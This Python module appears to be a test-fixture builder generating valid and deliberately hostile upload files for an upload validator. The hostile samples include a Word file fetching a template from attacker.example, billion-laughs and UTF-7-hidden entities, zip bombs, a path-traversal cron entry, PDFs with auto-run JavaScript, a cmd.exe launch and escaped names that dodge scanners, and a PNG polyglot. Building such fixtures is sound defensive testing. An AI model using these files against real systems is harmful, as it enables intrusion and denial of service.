"""Build valid and hostile upload samples in code (no binary fixtures in the repository)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from functools import cache

from docx import Document
from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

# ---------------------------------------------------------------- valid files


def fpdf_pdf(text: str = "Consent form / doui-sho") -> bytes:
    """A real one-page PDF with text, laid out by fpdf2."""
    pdf = FPDF()
    # A fixed creation date: two calls give the same bytes (tests compare them).
    pdf.set_creation_date(datetime(2026, 4, 1, tzinfo=UTC))
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text=text)
    return bytes(pdf.output())


def pypdf_pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    """A blank A4 PDF from pypdf, optionally changed before writing."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png(width: int = 4, height: int = 3) -> bytes:
    """A real RGB PNG."""
    rows = b"".join(b"\x00" + bytes([200, 60, 40]) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(rows))
        + _png_chunk(b"IEND", b"")
    )


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@cache
def docx(text: str = "同意書 世田谷 太郎") -> bytes:
    """A real Word document made by python-docx (bytes are immutable: cached)."""
    document = Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def jpeg() -> bytes:
    """A real JPEG written by Word: the thumbnail inside python-docx's default template."""
    with zipfile.ZipFile(io.BytesIO(docx())) as zf:
        return zf.read("docProps/thumbnail.jpeg")


# ---------------------------------------------------------------- hostile Word files


def rebuild_zip(
    data: bytes,
    replace: dict[str, bytes] | None = None,
    add: list[tuple[str, bytes]] | None = None,
) -> bytes:
    """Copy a zip keeping its entry order (the sniffer reads the first names), with changes."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = replace.get(info.filename, src.read(info.filename))
            dst.writestr(info.filename, body, compress_type=zipfile.ZIP_DEFLATED)
        for name, body in add or []:
            dst.writestr(zipfile.ZipInfo(name), body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _docx_part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def docm() -> bytes:
    """A macro-enabled document: a VBA project and the macro main content type."""
    base = docx()
    types = _docx_part(base, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    return rebuild_zip(
        base,
        replace={"[Content_Types].xml": types},
        add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name" * 50)],
    )


def docx_external_template() -> bytes:
    """A document that fetches its template from a server when opened."""
    base = docx()
    rels = _docx_part(base, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    return rebuild_zip(base, replace={"word/_rels/document.xml.rels": rels})


def docx_with_hyperlink() -> bytes:
    """An ordinary document with a clickable link to an outside page (accepted)."""
    base = docx()
    rels = _docx_part(base, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" '
        b'TargetMode="External"/></Relationships>',
    )
    return rebuild_zip(base, replace={"word/_rels/document.xml.rels": rels})


def docx_alt_chunk() -> bytes:
    """A document importing an HTML part (which may load remote images) when opened."""
    base = docx()
    rels = _docx_part(base, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/aFChunk" Target="chunk.html"/></Relationships>',
    )
    html = b'<html><body><img src="http://attacker.example/beacon.png"></body></html>'
    return rebuild_zip(
        base, replace={"word/_rels/document.xml.rels": rels}, add=[("word/chunk.html", html)]
    )


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)


def docx_with_entity(encoding: str = "utf-8") -> bytes:
    """A document whose main part declares entities (billion laughs)."""
    base = docx()
    body = _docx_part(base, "word/document.xml").split(b"?>", 1)[1]
    part = (_LAUGHS + body).decode("utf-8")
    if encoding != "utf-8":
        part = part.replace('version="1.0"?>', f'version="1.0" encoding="{encoding}"?>', 1)
    return rebuild_zip(base, replace={"word/document.xml": part.encode(encoding)})


def docx_zip_bomb(size: int = 5 * 1024 * 1024) -> bytes:
    """A document with a part of zeros that compresses about 1000 to 1."""
    return rebuild_zip(docx(), add=[("word/media/padding.xml", b"\x00" * size)])


def docx_many_entries(count: int = 2100) -> bytes:
    return rebuild_zip(docx(), add=[(f"word/media/p{i}.xml", b"") for i in range(count)])


def docx_with_traversal() -> bytes:
    """A document with an entry that would be extracted outside the target folder."""
    return rebuild_zip(docx(), add=[("../../etc/cron.d/evil", b"* * * * * root sh")])


def docx_with_field(code: str) -> bytes:
    """A document with a field code split over two runs (as Word often writes them)."""
    base = docx()
    half = len(code) // 2
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in (code[:half], code[half:])
    )
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    body = _docx_part(base, "word/document.xml").replace(
        b"<w:sectPr", field.encode() + b"<w:sectPr"
    )
    return rebuild_zip(base, replace={"word/document.xml": body})


def docx_encrypted_entries() -> bytes:
    """A document whose zip entries claim traditional PKWARE encryption (flag bit 0)."""
    data = bytearray(docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        offsets = [info.header_offset for info in zf.infolist()]
    for offset in offsets:  # local file headers: flags at +6
        data[offset + 6] |= 0x01
    end = data.rfind(b"PK\x05\x06")
    count, _, start = struct.unpack_from("<HII", data, end + 10)
    pos = start
    for _ in range(count):  # central directory entries: flags at +8
        data[pos + 8] |= 0x01
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        pos += 46 + name_len + extra_len + comment_len
    return bytes(data)


def docx_truncated() -> bytes:
    """The first half of a document: it still starts like one."""
    data = docx()
    return data[: len(data) // 2]


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("readme.txt", "hello")
    return out.getvalue()


# ---------------------------------------------------------------- hostile PDFs


def _name(value: str) -> NameObject:
    return NameObject(value)


def encrypted_pdf() -> bytes:
    return pypdf_pdf(lambda w: w.encrypt("secret", algorithm="AES-256"))


def malformed_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\nthis is not a pdf\n"


def truncated_pdf() -> bytes:
    data = fpdf_pdf()
    return data[: len(data) // 2]


def _open_action(action: dict[str, object]) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[_name("/OpenAction")] = DictionaryObject(action)

    return change


def pdf_open_action_js() -> bytes:
    """A PDF that runs JavaScript as soon as it is opened."""
    return pypdf_pdf(
        _open_action(
            {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")}
        )
    )


def pdf_launch() -> bytes:
    """A PDF with a link annotation that launches a program."""

    def change(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("cmd.exe")}
        )
        annotation = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
                _name("/A"): action,
            }
        )
        writer.add_annotation(0, annotation)

    return pypdf_pdf(change)


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree."""

    def change(writer: PdfWriter) -> None:
        script = DictionaryObject(
            {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.beep(0)")}
        )
        tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("x"), script])})
        writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})

    return pypdf_pdf(change)


def pdf_names_javascript_escaped() -> bytes:
    """The same with every name hex-escaped (/J#61vaScript, /#4AS) to dodge byte searches."""
    data = pdf_names_javascript()
    assert b"/JavaScript" in data and b"/JS " in data
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4AS ")


def pdf_additional_actions() -> bytes:
    """A page with /AA: an action when the page opens."""

    def change(writer: PdfWriter) -> None:
        writer.pages[0][_name("/AA")] = DictionaryObject(
            {_name("/O"): DictionaryObject({_name("/S"): _name("/Named")})}
        )

    return pypdf_pdf(change)


def pdf_embedded_file() -> bytes:
    return pypdf_pdf(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00"))


def pdf_rich_media() -> bytes:
    """A RichMedia (Flash-era) annotation."""

    def change(writer: PdfWriter) -> None:
        annotation = DictionaryObject(
            {_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/RichMedia")}
        )
        writer.add_annotation(0, annotation)

    return pypdf_pdf(change)


def pdf_open_at_page() -> bytes:
    """A harmless OpenAction: open on the first page, fit to window."""

    def change(writer: PdfWriter) -> None:
        page = writer.pages[0].indirect_reference
        writer.root_object[_name("/OpenAction")] = ArrayObject([page, _name("/Fit")])

    return pypdf_pdf(change)


# ---------------------------------------------------------------- other disguises


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def windows_exe() -> bytes:
    """The start of a PE executable (DOS stub)."""
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    return stub + b"\x00" * 48 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64


def truncated_png() -> bytes:
    data = png(64, 64)
    return data[: len(data) - 20]


def png_bad_crc() -> bytes:
    data = bytearray(png())
    data[30] ^= 0xFF  # inside the IHDR body: its CRC no longer matches
    return bytes(data)


def png_with_trailer() -> bytes:
    """A PNG with a script appended after IEND (a polyglot)."""
    return png() + html_page()


def png_pixel_bomb() -> bytes:
    """A tiny PNG that claims 100,000 × 100,000 pixels (a decompression bomb for decoders)."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return png()[:8] + _png_chunk(b"IHDR", header) + png()[33:]


def truncated_jpeg() -> bytes:
    data = jpeg()
    return data[: len(data) // 2]


def docx_with_entity_utf7() -> bytes:
    """Declarations hidden in UTF-7 ("+ADw-" is "<"), which some XML parsers still decode."""
    base = docx()
    body = _docx_part(base, "word/document.xml").split(b"?>", 1)[1]
    hidden = _LAUGHS.replace(b"<!", b"+ADw-!").replace(b'"1.0"?>', b'"1.0" encoding="UTF-7"?>')
    return rebuild_zip(base, replace={"word/document.xml": hidden + body})
